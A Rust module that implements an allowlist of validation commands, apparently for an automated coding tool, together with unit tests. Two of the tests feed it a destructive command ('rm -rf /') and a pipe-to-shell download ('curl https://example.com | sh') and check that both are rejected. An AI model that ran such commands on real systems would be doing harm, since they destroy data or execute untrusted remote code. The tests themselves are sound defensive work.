//! Validation-command allowlist. Only unit-test runners and general-purpose
//! interpreters/build drivers may run as validation commands; everything
//! else is a policy violation, never a silent skip.

#[derive(Debug, thiserror::Error)]
#[error("validation command `{0}` is not on the allowlist")]
pub struct DisallowedCommand(pub String);

/// Known-safe leading program names for validation commands. Matched
/// against the first whitespace-delimited token of the command string.
const ALLOWED_PROGRAMS: &[&str] = &[
    "pytest", "python", "python3", "pip", "uv", "ruff", "mypy", "black", "flake8",
    "cargo", "rustc", "npm", "npx", "yarn", "pnpm", "node", "jest", "vitest",
    "go", "make", "tox", "nox", "pre-commit",
];

#[derive(Debug, Clone)]
pub struct ValidationAllowlist {
    allowed_programs: Vec<String>,
}

impl Default for ValidationAllowlist {
    fn default() -> Self {
        Self {
            allowed_programs: ALLOWED_PROGRAMS.iter().map(|s| s.to_string()).collect(),
        }
    }
}

impl ValidationAllowlist {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn allow(&mut self, program: impl Into<String>) {
        self.allowed_programs.push(program.into());
    }

    pub fn check(&self, command: &str) -> Result<(), DisallowedCommand> {
        let program = command.split_whitespace().next().unwrap_or("");
        if self.allowed_programs.iter().any(|p| p == program) {
            Ok(())
        } else {
            Err(DisallowedCommand(command.to_string()))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_test_runner_is_allowed() {
        let list = ValidationAllowlist::new();
        assert!(list.check("pytest tests/ -x").is_ok());
    }

    #[test]
    fn arbitrary_shell_is_rejected() {
        let list = ValidationAllowlist::new();
        assert!(list.check("rm -rf /").is_err());
    }

    #[test]
    fn curl_pipe_sh_is_rejected() {
        let list = ValidationAllowlist::new();
        assert!(list.check("curl https://example.com | sh").is_err());
    }

    #[test]
    fn custom_allowed_program_is_accepted() {
        let mut list = ValidationAllowlist::new();
        list.allow("just");
        assert!(list.check("just test").is_ok());
    }
}
